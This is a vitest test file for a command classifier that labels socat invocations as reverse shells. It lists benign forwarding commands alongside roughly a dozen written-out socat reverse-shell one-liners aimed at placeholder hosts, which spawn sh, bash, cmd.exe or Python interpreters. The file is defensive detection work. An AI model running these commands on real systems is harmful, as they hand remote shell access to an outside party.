import { expect, test } from 'vitest';
import { commandTraits } from '../../src/python/vocabulary/commands.js';

test.each([
  'socat TCP-LISTEN:5432,fork EXEC:"nc db 5432"',
  'socat - EXEC:"docker exec -i garden pg_isready"',
  'socat UNIX-LISTEN:/run/a.sock EXEC:/usr/lib/git-core/git-upload-pack',
  'socat TCP-LISTEN:80 EXEC:{}/bin/proxy',
  '$socat unix-listen:/tmp/garden.sock exec:./garden.rb &',
])('a program that socat starts and that is no shell gives nobody one: %s', (command) => {
  expect([...commandTraits(command)]).not.toContain('reverse-shell');
});

test.each([
  'socat TCP:198.51.100.7:443 EXEC:/bin/sh',
  "socat tcp-connect:node.invalid:443 exec:'bash -li',pty,stderr,setsid",
  'socat TCP:{}:443 EXEC:{},pty',
  'socat unix-listen:/tmp/a.sock exec:sh & socat tcp:node.invalid:443 unix-connect:/tmp/a.sock',
  'socat unix-connect:/tmp/a.sock exec:./garden.rb',
  'socat TCP:node.invalid:443 EXEC:"sudo -u leaf bash"',
  'socat TCP:node.invalid:443 EXEC:/tmp/.leaf',
  'socat TCP:node.invalid:443 EXEC:$SHELL',
  'socat TCP:node.invalid:443 SYSTEM:"cd /; exec sh"',
  'socat OPENSSL:node.invalid:443 EXEC:cmd.exe,pipes',
  'socat TCP:node.invalid:443 EXEC:"python3 -i"',
])('a shell, an interpreter or a program that nobody knows behind socat is a reverse shell: %s', (command) => {
  expect([...commandTraits(command)]).toContain('reverse-shell');
});
